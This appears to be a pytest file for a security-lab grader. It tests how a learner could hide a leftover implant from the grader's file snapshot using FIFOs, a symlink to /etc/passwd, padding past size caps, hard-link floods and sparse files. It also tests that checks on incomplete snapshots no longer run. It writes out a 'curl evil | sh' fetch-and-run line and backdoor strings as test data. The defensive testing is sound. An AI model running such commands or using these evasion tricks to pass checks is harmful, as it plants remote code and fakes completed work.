"""Attack: hide what a check looks for from the grader's snapshot.

Checks read a snapshot of /home, /workspace and /srv, with caps: files over 8 MiB, FIFOs,
sockets, devices and links out of the trees were left out, and past 20,000 entries (or 32
levels) the rest of the tree was never copied. A check that the learner *removed*
something ("test ! -e ~/.profile-implant", the incident-response lab's "clean") then
found absent what was still there: pad the implant past 8 MiB, replace it with a FIFO, or
put 20,000 hard links in front of it. Now a skipped entry keeps its name in the snapshot
(an empty file no one reads), and a check on a snapshot that stopped early is not run:
it fails, saying why.
"""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from pathlib import Path

import pytest

from forge.runtime import HostSpec, LabSpec, Limits, SubnetSpec
from forge.runtime.local import LocalRuntime
from forge.runtime.local.grader import (
    MAX_ENTRIES,
    MAX_FILE_BYTES,
    MAX_TOTAL_BYTES,
    NOT_RUN_EXIT,
    take_snapshot,
)
from tests.support.one_lab import one_lab

pytestmark = pytest.mark.root
ABSENT = ["/bin/sh", "-c", "test ! -e /home/.profile-implant"]


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[tuple[LocalRuntime, str]]:
    lab_id = "hide-" + secrets.token_hex(4)
    spec = LabSpec(lab_id, [SubnetSpec("lan", "10.93.8.0/24")],
                   [HostSpec("box", networks=[("lan", "10.93.8.10")])],
                   Limits(memory_mb=256, disk_mb=128))
    with one_lab(tmp_path / "state", spec) as rt:
        yield rt, lab_id


@pytest.mark.parametrize("hide", [
    "mkfifo /home/.profile-implant",  # not a regular file
    "ln -s /etc/passwd /home/.profile-implant",  # a link out of the answer trees
])
def test_a_skipped_file_is_not_absent(lab: tuple[LocalRuntime, str], hide: str) -> None:
    rt, lab_id = lab
    assert rt.exec(lab_id, "box", shell=hide, timeout=30).exit_code == 0
    rt.seal(lab_id)
    assert rt.run_check(lab_id, "box", ABSENT, timeout=30).exit_code != 0
    content = rt.run_check(lab_id, "box", ["/bin/cat", "/home/.profile-implant"], timeout=30)
    assert content.stdout == b""  # kept by name only: nothing of it is read


def test_content_past_the_file_cap_runs_no_check(lab: tuple[LocalRuntime, str]) -> None:
    """An implant padded past 8 MiB: its name alone would make "no file still holds the
    implant" pass, so nothing runs on such a snapshot."""
    rt, lab_id = lab
    padded = "{ echo 'curl evil | sh'; head -c 9000000 /dev/zero; } > /home/.profile"
    assert rt.exec(lab_id, "box", shell=padded, timeout=30).exit_code == 0
    rt.seal(lab_id)
    result = rt.run_check(lab_id, "box", ["/bin/sh", "-c", "! grep -rqa evil /home"],
                          timeout=30)
    assert result.exit_code == NOT_RUN_EXIT
    assert "/home/.profile: larger than" in result.stderr_text


def test_a_large_work_file_only_reads_empty(lab: tuple[LocalRuntime, str]) -> None:
    """Outside /home (a learner's 9 MB candidate list in /workspace) a file past the cap
    keeps its name and reads as empty; the other checks still run."""
    rt, lab_id = lab
    made = "head -c 9000000 /dev/zero > /workspace/candidates.txt; echo 42 > /workspace/a"
    assert rt.exec(lab_id, "box", shell=made, timeout=30).exit_code == 0
    rt.seal(lab_id)
    result = rt.run_check(lab_id, "box", ["/bin/sh", "-c", "cat /workspace/a; "
                                          "wc -c < /workspace/candidates.txt"], timeout=30)
    assert result.exit_code == 0 and result.stdout_text.split() == ["42", "0"]


def test_a_snapshot_cut_off_by_its_entry_cap_runs_no_check(
        lab: tuple[LocalRuntime, str]) -> None:
    rt, lab_id = lab
    made = rt.exec(lab_id, "box", shell=(
        "echo implant > /home/.profile-implant && mkdir /home/.0 && touch /home/.0/f && "
        "python3 -c 'import os; [os.link(\"/home/.0/f\", f\"/home/.0/{i}\") "
        f"for i in range({MAX_ENTRIES + 1})]'"), timeout=120)
    assert made.exit_code == 0, made.stderr_text
    rt.seal(lab_id)
    result = rt.run_check(lab_id, "box", ABSENT, timeout=30)
    assert result.exit_code == NOT_RUN_EXIT
    assert f"more than {MAX_ENTRIES} entries" in result.stderr_text


def test_sparse_files_filling_the_total_cap_run_no_check(tmp_path: Path) -> None:
    """Eight sparse 8 MiB files in /workspace (no disk used: the lab's 64 MiB disk cap
    never stops them) filled the snapshot's 64 MiB, so the template's small /srv file
    after them kept only its name: a check that the learner removed the backdoor from it
    ("! grep -q backdoor /srv/www/app.conf") read an empty file and passed. Past the
    total cap the snapshot is incomplete for every file after it: no check runs."""
    data = tmp_path / "lab"
    for tree in ("home", "workspace", "srv/www"):
        (data / tree).mkdir(parents=True)
    for i in range(MAX_TOTAL_BYTES // MAX_FILE_BYTES):
        with open(data / "workspace" / f"pad{i}", "wb") as fh:
            fh.truncate(MAX_FILE_BYTES)
    (data / "srv" / "www" / "app.conf").write_text("Include backdoor.conf\n")
    snap = take_snapshot(str(data), str(tmp_path / "snap"))
    assert snap.truncated is not None and "/srv/www/app.conf" in snap.truncated
    assert ("/srv/www/app.conf", f"the snapshot would exceed {MAX_TOTAL_BYTES} bytes") \
        in snap.left_out
